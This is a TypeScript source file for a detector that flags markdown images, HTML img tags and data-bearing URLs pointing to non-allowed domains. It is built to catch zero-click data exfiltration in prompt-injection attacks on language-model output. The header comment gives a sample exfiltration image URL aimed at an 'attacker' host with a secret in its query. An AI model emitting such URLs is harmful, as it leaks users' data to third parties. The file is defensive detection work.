/**
 * The exfiltration detector: URLs that would send data to a third party
 * when the client renders the text. Markdown images and HTML `<img>` are
 * fetched without a click (the zero-click exfiltration of prompt-injection
 * attacks: `![](https://attacker/?q=<secret>)`); links and bare URLs only
 * count when they carry an encoded payload. URLs on allowed domains (and
 * their subdomains) never count. Findings are of type `url` and span the URL.
 */
import type { Detector, Finding, Subject } from '../../types.ts';
import { isAllowed, urlFacts } from './url-parts.ts';

export interface ExfiltrationDetectorOptions {
  /** Domains whose URLs are trusted, e.g. `['example.com']` (covers `cdn.example.com`). Default none. */
  readonly allowedDomains?: readonly string[];
}

const BARE_URL = /(?<![A-Za-z0-9+.-])https?:\/\/[^\s"'<>()[\]{}`\\^|]{1,8192}/gi;
const HTML_IMAGE_TAG = /<img\b/gi;
const SRC_ATTRIBUTE = /[\s/]src[ \t]{0,5}=[ \t]{0,5}["']?([^"'\s>]{1,8192})/i;

/** Longest alt text, URL and tag read; longer ones are not images a client renders. */
const MAX_ALT = 1000;
const MAX_URL = 8192;
const MAX_TAG = 2000;

interface FoundUrl {
  readonly url: string;
  readonly start: number;
}

/**
 * Markdown inline images `![alt](url "title")` and reference images
 * `![alt][label]` with their `[label]: url` definitions (CommonMark §6.4,
 * §4.7). Parsed by hand: each search resumes after what the previous one
 * read, so the work is linear however the brackets nest or repeat.
 */
function markdownImages(text: string): FoundUrl[] {
  const found: FoundUrl[] = [];
  const labels = new Set<string>();
  let from = 0;
  for (;;) {
    const open = text.indexOf('![', from);
    if (open === -1) break;
    const altStart = open + 2;
    const altLimit = Math.min(text.length, altStart + MAX_ALT);
    let index = altStart;
    while (index < altLimit && text[index] !== ']' && text[index] !== '\n' && text[index] !== '[')
      index++;
    from = index;
    if (text[index] !== ']') continue;
    const after = text[index + 1];
    if (after === '[') {
      const labelEnd = text.indexOf(']', index + 2);
      if (labelEnd !== -1 && labelEnd - index < 100) {
        const label = text.slice(index + 2, labelEnd) || text.slice(altStart, index);
        labels.add(label.toLowerCase());
        from = labelEnd + 1;
      }
      continue;
    }
    if (after !== '(') continue;
    index += 2;
    while (text[index] === ' ' || text[index] === '\t') index++;
    if (text[index] === '<') index++;
    const urlStart = index;
    const urlLimit = Math.min(text.length, urlStart + MAX_URL);
    while (index < urlLimit && !endsMarkdownUrl(text.charCodeAt(index))) index++;
    if (index > urlStart) found.push({ url: text.slice(urlStart, index), start: urlStart });
    from = index;
  }
  if (labels.size > 0) found.push(...referenceDefinitions(text, labels));
  return found;
}

/** Whitespace, `)` and `>` end an inline image's destination. */
function endsMarkdownUrl(code: number): boolean {
  return code <= 32 || code === 41 || code === 62;
}

/** `[label]: url` lines whose label an image used. */
function referenceDefinitions(text: string, labels: ReadonlySet<string>): FoundUrl[] {
  const found: FoundUrl[] = [];
  let lineStart = 0;
  while (lineStart < text.length) {
    let lineEnd = text.indexOf('\n', lineStart);
    if (lineEnd === -1) lineEnd = text.length;
    const line = text.slice(lineStart, lineEnd);
    const trimmed = line.trimStart();
    const close = trimmed.indexOf(']:');
    if (trimmed.startsWith('[') && close > 1 && labels.has(trimmed.slice(1, close).toLowerCase())) {
      const rest = trimmed.slice(close + 2);
      const url = rest.trimStart().replace(/^</, '').split(/[\s>]/, 1)[0] ?? '';
      if (url.length > 0)
        found.push({ url, start: lineStart + line.indexOf(url, line.length - rest.length) });
    }
    lineStart = lineEnd + 1;
  }
  return found;
}

/** `<img … src=…>`: the tag is read up to its `>` (bounded), then the attribute found in it. */
function htmlImages(text: string): FoundUrl[] {
  const found: FoundUrl[] = [];
  HTML_IMAGE_TAG.lastIndex = 0;
  for (let match = HTML_IMAGE_TAG.exec(text); match !== null; match = HTML_IMAGE_TAG.exec(text)) {
    const tagStart = match.index;
    let tagEnd = text.indexOf('>', tagStart);
    if (tagEnd === -1 || tagEnd - tagStart > MAX_TAG)
      tagEnd = Math.min(text.length, tagStart + MAX_TAG);
    const tag = text.slice(tagStart, tagEnd);
    const source = SRC_ATTRIBUTE.exec(tag);
    const url = source?.[1];
    if (source !== null && url !== undefined) {
      found.push({ url, start: tagStart + source.index + source[0].length - url.length });
    }
    HTML_IMAGE_TAG.lastIndex = Math.max(HTML_IMAGE_TAG.lastIndex, tagEnd);
  }
  return found;
}

/** Creates the `exfiltration` detector. */
export function createExfiltrationDetector(options: ExfiltrationDetectorOptions = {}): Detector {
  const allowed = (options.allowedDomains ?? []).map((domain) =>
    domain.toLowerCase().replace(/^\*?\./, ''),
  );
  return {
    id: 'exfiltration',
    detect(subject: Subject): readonly Finding[] {
      try {
        return detectExfiltration(subject.text, allowed);
      } catch {
        // Detectors must not throw (types.ts).
        return [];
      }
    },
  };
}

function detectExfiltration(text: string, allowed: readonly string[]): Finding[] {
  const findings: Finding[] = [];
  const hasImage = text.includes('![') || /<img/i.test(text);
  if (!hasImage && !text.includes('://')) return findings;

  const image = (rule: string, url: string, start: number, what: string): void => {
    const facts = urlFacts(url);
    if (facts === undefined || isAllowed(facts.host, allowed)) return;
    findings.push({
      detector: 'exfiltration',
      rule,
      type: 'url',
      // Any third-party image leaks that the text was rendered; one with
      // data in its URL leaks the data itself.
      score: facts.payload ? 1 : 0.6,
      view: 'original',
      reason: facts.payload
        ? `${what} to a non-allowed domain with data in its URL`
        : `${what} to a non-allowed domain`,
      span: { start, end: start + url.length },
    });
  };

  if (hasImage) {
    for (const { url, start } of markdownImages(text))
      image('markdown-image', url, start, 'a markdown image');
    for (const { url, start } of htmlImages(text)) image('html-image', url, start, 'an HTML image');
  }

  if (text.includes('://')) {
    // An image URL is also a bare URL starting at the same offset.
    const imageStarts = new Set(findings.map((item) => item.span?.start));
    for (const match of text.matchAll(BARE_URL)) {
      const start = match.index;
      if (imageStarts.has(start)) continue;
      // Sentence punctuation after a URL is not part of it.
      const url = match[0].replace(/[.,;:!?]{1,8}$/, '');
      const end = start + url.length;
      const facts = urlFacts(url);
      if (facts === undefined || !facts.payload || isAllowed(facts.host, allowed)) continue;
      findings.push({
        detector: 'exfiltration',
        rule: 'url-data-payload',
        type: 'url',
        score: 0.8,
        view: 'original',
        reason: 'a URL to a non-allowed domain with data in its query or path',
        span: { start, end },
      });
    }
  }
  return findings;
}
